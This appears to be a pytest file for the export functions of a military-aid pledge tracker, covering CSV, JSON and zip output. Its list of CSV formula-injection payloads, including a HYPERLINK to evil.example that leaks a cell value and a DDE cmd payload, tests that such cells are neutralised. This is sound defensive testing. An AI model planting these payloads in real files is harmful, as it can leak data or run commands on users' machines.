"""Export: the CSV compared byte for byte with a literal, hostile cells
neutralised (OWASP CSV injection) while numbers stay numbers, JSON, and the
zip with its README."""
from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

import pandas as pd
import pytest
from hypothesis import given, strategies as st

from tracker.export import FORMULA_STARTS, safe_cell, to_csv, to_json, write_zip
from tracker.pipeline import ingest_article
from tracker.reading.files import Article
from tracker.records.frame import pledges_to_frame
from tracker.records.fx import last_rate_date
from tracker.records.pledge import Pledge
from tracker.store.query import load_pledges

HOSTILE = '=HYPERLINK("http://evil.example","Denmark") gives €200 million for drones.'
QUOTED = 'Britain will spend £4.5 billion, "a record", this year.'

# Rates checked by hand against the ECB reference rates of Friday 11 April 2025
# (USD 1.1346, GBP 0.86678 per euro): 200m EUR = 226,920,000 USD = 173,356,000 GBP;
# £4.5bn = €5,191,628,787.00 = $5,890,422,021.74. The second record has no date
# of its own: it is converted on its publication day (Saturday 12th -> Friday's rate),
# which `source_published` gives.
EXPECTED_CSV = (
    '"id","donors","recipient","amount","currency","qualifier","kind","aid_type","categories","date","period",'
    '"part_of","quote","amount_eur","amount_usd","amount_gbp","fx_date","status","confidence","reviewed_by",'
    '"conflict","source_urls","source_published","source_quotes","evidence"\n'
    '"36d11e92d51cfb9a","DNK","UKR",200000000,"EUR","exact","package","military","drones","2025-04-11",,,'
    '"\'=HYPERLINK(""http://evil.example"",""Denmark"") gives €200 million for drones.",200000000,226920000,'
    '173356000,"2025-04-11","extracted",0.93,,false,"https://h.example/a","2025-04-11",'
    '"\'=HYPERLINK(""http://evil.example"",""Denmark"") gives €200 million for drones.","package:gives | donor:Denmark"\n'
    '"ddaccb22980b5a86","GBR","UKR",4500000000,"GBP","exact","budget","military","general",,"2025",,'
    '"Britain will spend £4.5 billion, ""a record"", this year.",5191628787,5890422021.74,4500000000,'
    '"2025-04-11","extracted",,,false,"https://p.example/b","2025-04-12","Britain will spend £4.5 billion, ""a record"", this year.",\n'
)


@pytest.fixture
def two_pledges(sqlite_store):
    ingest_article(sqlite_store, Article(text=HOSTILE, title="@Denmark pledge", outlet="Hostile",
                                         url="https://h.example/a"), published=date(2025, 4, 11),
                   pledges=[Pledge(donors=["DNK"], amount=200e6, currency="EUR", categories=["drones"],
                                   date=date(2025, 4, 11), quote=HOSTILE, start=0, end=len(HOSTILE),
                                   confidence=0.93, evidence=["package:gives", "donor:Denmark"])])
    ingest_article(sqlite_store, Article(text=QUOTED, title="UK budget", outlet="Plain", url="https://p.example/b"),
                   published=date(2025, 4, 12),
                   pledges=[Pledge(donors=["GBR"], amount=4.5e9, currency="GBP", kind="budget", date=None,
                                   period="2025", quote=QUOTED, start=0, end=len(QUOTED))])
    return load_pledges(sqlite_store)


def test_csv_matches_the_literal(two_pledges):
    actual = to_csv(two_pledges)
    assert actual == EXPECTED_CSV


# Payloads from the OWASP CSV injection page and its usual variants.
HOSTILE_CELLS = [
    "=1+2", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "@ 'quoted'", "-", "\uff1d1+2",
]


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_hostile_text_cell_is_neutralised(cell):
    frame = pledges_to_frame([Pledge(donors=["GBR"], amount=1e6, currency="GBP", quote=cell)])
    (row,) = list(csv.DictReader(io.StringIO(to_csv(frame))))
    actual = row["quote"]
    assert actual == "'" + cell


@pytest.mark.parametrize("cell", ["Norway gives NOK 1bn.", "'already quoted", "1+2", " =not first", "£450m"])
def test_harmless_text_cell_is_unchanged(cell):
    assert safe_cell(cell) == cell


def test_numbers_stay_numbers_even_when_negative():
    frame = pledges_to_frame([Pledge(donors=["GBR"], amount=1e6, currency="GBP")])
    frame["amount"] = -1234.5
    line = to_csv(frame).splitlines()[1]
    actual = line.split(",")[3]
    assert actual == "-1234.5"


@given(st.text(max_size=40))
def test_any_text_reads_back_as_itself_or_neutralised(text):
    frame = pledges_to_frame([Pledge(donors=["GBR"], amount=1e6, currency="GBP", quote=text)])
    (row,) = list(csv.DictReader(io.StringIO(to_csv(frame), newline="")))
    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
    assert row["quote"] == expected


def test_json_keeps_sources_and_nulls(two_pledges):
    records = json.loads(to_json(two_pledges))
    actual = [(r["donors"], r["amount"], r["date"], r["conflict"], [s["url"] for s in r["sources"]]) for r in records]
    assert actual == [(["DNK"], 200000000, "2025-04-11", False, ["https://h.example/a"]),
                      (["GBR"], 4500000000, None, False, ["https://p.example/b"])]


def test_zip_holds_the_csv_and_a_readme(two_pledges, tmp_path):
    path = tmp_path / "pledges.zip"
    write_zip(two_pledges, path, description="donors DNK, GBR")
    with zipfile.ZipFile(path) as z:
        names, csv_text, readme = sorted(z.namelist()), z.read("pledges.csv").decode(), z.read("README.txt").decode()
    actual = (names, csv_text, f"ends on {last_rate_date().isoformat()}" in readme,
              "https://h.example/a" in readme, "Selection: donors DNK, GBR." in readme,
              "counted once in any\n  total across donors" in readme)
    assert actual == (["README.txt", "pledges.csv"], EXPECTED_CSV, True, True, True, True)


def test_zip_into_a_missing_folder_is_an_input_error(two_pledges, tmp_path):
    from tracker.errors import InputError

    with pytest.raises(InputError, match="no such folder"):
        write_zip(two_pledges, tmp_path / "nowhere" / "x.zip")


def test_empty_frame_exports_a_header_only():
    actual = to_csv(pledges_to_frame([])).count("\n")
    assert actual == 1


def test_frame_without_store_columns_exports_what_it_has():
    frame = pledges_to_frame([Pledge(donors=["GBR", "NOR"], amount=450e6, currency="GBP",
                                     categories=["drones", "naval"], date=date(2025, 4, 11))])
    (row,) = list(csv.DictReader(io.StringIO(to_csv(frame))))
    actual = (row["donors"], row["categories"], row["amount"], "status" in row)
    assert actual == ("GBR;NOR", "drones;naval", "450000000", False)


def test_json_of_an_empty_frame_is_an_empty_list():
    assert json.loads(to_json(pd.DataFrame())) == []


def test_a_record_awaiting_review_is_exported_but_left_out_of_the_readme_total(sqlite_store, tmp_path):
    for text, confidence in (("Denmark gives €200 million.", 0.95), ("Sweden gives €100 million.", 0.4)):
        ingest_article(sqlite_store, Article(text=text, url=f"https://{confidence}.example/"), published=date(2025, 4, 11),
                       pledges=[Pledge(donors=[text[:3].upper()], amount=float(text.split("€")[1].split()[0]) * 1e6,
                                       currency="EUR", date=date(2025, 4, 11), quote=text, start=0, end=len(text),
                                       confidence=confidence)])
    path = tmp_path / "pledges.zip"
    write_zip(load_pledges(sqlite_store), path)
    with zipfile.ZipFile(path) as z:
        readme = z.read("README.txt").decode()
    actual = ("2 records in pledges.csv" in readme, "1 of them awaits review and is left out" in readme,
              "EUR 200,000,000" in readme)
    assert actual == (True, True, True)


@pytest.mark.parametrize("write", [to_csv, to_json], ids=["csv", "json"])
def test_the_review_state_reads_back_from_an_export(sqlite_store, tmp_path, write):
    from tracker.pipeline import import_files
    from tracker.store.review import confirm
    from tracker.store.schema import open_store

    text = "Sweden gives €100 million for drones."
    result = ingest_article(sqlite_store, Article(text=text, url="https://s.example/a"), published=date(2025, 4, 11),
                            pledges=[Pledge(["SWE"], 1e8, "EUR", date=date(2025, 4, 11), quote=text, end=len(text),
                                            confidence=0.62, evidence=["giver:named", "support:gives"])])
    confirm(sqlite_store, result.pledge_ids[0], who="ann")
    path = tmp_path / f"pledges.{'csv' if write is to_csv else 'json'}"
    path.write_text(write(load_pledges(sqlite_store)), encoding="utf-8", newline="")
    with open_store(str(tmp_path / "again.db")) as again:
        import_files(again, [path])
        row = load_pledges(again).iloc[0]
    assert (row["status"], row["confidence"], row["evidence"], row["reviewed_by"]) == (
        "confirmed", 0.62, ["giver:named", "support:gives"], "ann")
